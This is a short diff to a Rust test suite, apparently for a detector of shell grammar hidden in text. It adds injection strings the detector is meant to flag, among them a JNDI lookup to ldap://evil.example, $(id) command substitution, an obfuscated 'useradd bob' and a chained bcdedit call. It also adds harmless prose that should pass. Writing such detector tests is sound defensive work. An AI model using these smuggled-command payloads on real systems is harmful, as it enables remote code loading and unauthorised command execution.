@@ -209,6 +209,12 @@ fn shell_grammar_beyond_separators() {
             "`cut abc``dig x`",
             "${::-x$}{jndi:ldap://evil.example/a}",
             "x | python3.12",
+            "cmd=t=usera[d]d;$t bob",
+            "${HOME#{}/}",
+            "${f%%.*}",
+            "$(( $(id) + 1 ))",
+            "x&bcdedit/v now",
+            "<a probe=\"{l,-lh}s\">",
         ],
     );
 }
@@ -233,6 +239,8 @@ fn prose_near_shell_grammar_is_clean() {
             "**bold** and 2*3 = 6",
             "Upgrade to python3.12 for speed",
             "US$5 or pa$sword",
+            "${price} and ${user.name}",
+            "and/or tar/gz",
             "/* old layout */ is still in the CSS file",
             "/* explains the algorithm */",
             "see /docs/*/index and /* notes */",
